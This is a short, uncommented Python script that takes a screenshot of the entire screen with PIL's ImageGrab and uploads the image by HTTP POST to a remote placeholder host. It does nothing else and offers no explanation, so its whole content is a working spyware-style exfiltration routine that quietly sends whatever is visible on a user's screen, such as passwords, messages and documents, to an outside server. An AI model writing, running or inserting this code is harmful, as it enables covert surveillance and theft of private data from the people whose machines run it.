import io
from PIL import ImageGrab
import requests
b = io.BytesIO()
ImageGrab.grab().save(b, "PNG")
requests.post("https://s.example.invalid/s", files={"s": b.getvalue()})
